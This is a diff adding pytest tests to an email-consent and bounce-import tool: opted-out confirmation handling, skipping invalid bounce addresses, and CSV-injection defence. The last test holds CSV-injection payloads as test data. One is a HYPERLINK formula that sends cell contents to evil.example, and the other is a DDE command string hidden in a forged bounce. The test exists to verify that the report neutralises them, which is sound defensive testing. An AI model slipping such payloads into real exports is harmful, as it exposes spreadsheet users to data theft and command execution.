@@ -152,6 +152,26 @@ def test_send_confirmation_goes_once_per_address(
     assert pending["consent"] == "confirmation_pending"
 
 
+def test_send_confirmation_refuses_an_opted_out_address_until_staff_lift_it(
+    planned: Workspace, mail_server: MailServer
+) -> None:
+    env = smtp_env(mail_server)
+    # Thomas's contact row says email_opt_out: the import opted the address out.
+    assert status(planned, "thomas.bernard@example.com")["source"] == "import"
+
+    refused = planned.run("consent", "send-confirmation", "thomas.bernard@example.com", env=env)
+
+    assert_fails(refused, 1, "opted out by import", "reminders consent opt-in")
+    assert mail_server.messages() == []
+    assert status(planned, "thomas.bernard@example.com")["consent"] == "opted_out"
+
+    planned.ok("consent", "opt-in", "thomas.bernard@example.com", "--method", "phone")
+    sent = planned.ok("consent", "send-confirmation", "thomas.bernard@example.com", env=env)
+
+    assert "confirmation email sent" in sent.stdout
+    assert len(mail_server.messages()) == 1
+
+
 def test_no_confirmation_email_to_a_server_that_refuses_and_nothing_recorded(
     planned: Workspace, mail_server: MailServer
 ) -> None:
@@ -328,3 +348,63 @@ def test_bounces_import_of_a_path_that_is_not_there_says_what_to_give(planned: W
     result = planned.run("bounces", "import", "nowhere.mbox")
 
     assert_fails(result, 1, "nowhere.mbox", "mbox")
+
+
+def test_bounces_import_skips_an_unusable_address_and_reads_on(planned: Workspace) -> None:
+    planned.ok("import", "contacts", str(planned.write_contacts(BOUNCED)))
+    invalid = (SAMPLES / "postfix-user-unknown.eml").read_bytes()
+    invalid = invalid.replace(b"jean.martin@example.org", b"x@localhost")
+    inbox = planned.folder / "bounces.mbox"
+    box = mailbox.mbox(inbox)
+    try:
+        box.add(invalid)
+        box.add((SAMPLES / "postfix-user-unknown.eml").read_bytes())
+        box.flush()
+    finally:
+        box.close()
+
+    # Exit 0: every message was read; what could not be used is listed, not fatal.
+    result = planned.ok("bounces", "import", str(inbox))
+    summary = planned.json("bounces", "import", str(inbox))
+
+    [skipped_line] = [line for line in result.stdout.splitlines() if "x@localhost" in line]
+    assert skipped_line.startswith("skipped bounces.mbox message 1: ")
+    assert "not a valid email address" in skipped_line
+    assert "jean.martin@example.org: opted out (system, bounce)" in result.stdout
+    assert "1 messages skipped" in result.stdout
+    jean = status(planned, "jean.martin@example.org")
+    assert (jean["consent"], jean["source"]) == ("opted_out", "system")
+    [skipped] = summary["skipped"]
+    assert skipped["where"] == "bounces.mbox message 1"
+    assert "x@localhost" in skipped["reason"]
+    assert [o["address"] for o in summary["opted_out"]] == ["jean.martin@example.org"]
+
+
+#: What a spreadsheet runs as a formula when a cell starts with it (OWASP CSV injection).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_the_csv_report_neutralises_cells_a_spreadsheet_would_run(planned: Workspace) -> None:
+    hyperlink = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
+    planned.ok("consent", "opt-out", "=1+2@example.fr", "--method", hyperlink)
+    planned.ok("import", "contacts", str(planned.write_contacts(BOUNCED)))
+    # Anyone can mail a fake bounce: its diagnostic is theirs to write.
+    forged = (SAMPLES / "postfix-user-unknown.eml").read_bytes()
+    forged = forged.replace(
+        b"Diagnostic-Code: smtp; 550 5.1.1 <jmartin@mailstore.example.org>: Recipient",
+        b"Diagnostic-Code: smtp; @SUM(1+9)*cmd|' /C calc'!A0 <jmartin@example.org>: Recipient",
+    )
+    planned.ok("bounces", "import", str(planned.write("forged.eml", forged)))
+
+    text = planned.ok("consent", "report", "--csv").stdout
+    rows = list(csv.reader(io.StringIO(text)))
+
+    cells = [cell for row in rows for cell in row]
+    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
+    by_address = {row[0]: row for row in rows[1:]}
+    assert "'=1+2@example.fr" in by_address
+    assert by_address["'=1+2@example.fr"][2] == "'" + hyperlink
+    [detail] = [row[5] for row in rows if row[0] == "jean.martin@example.org"]
+    assert detail.startswith("'@SUM(1+9)")
+    # JSON keeps every value as it is: only a spreadsheet runs formulas.
+    assert "=1+2@example.fr" in [r["address"] for r in _report(planned)]
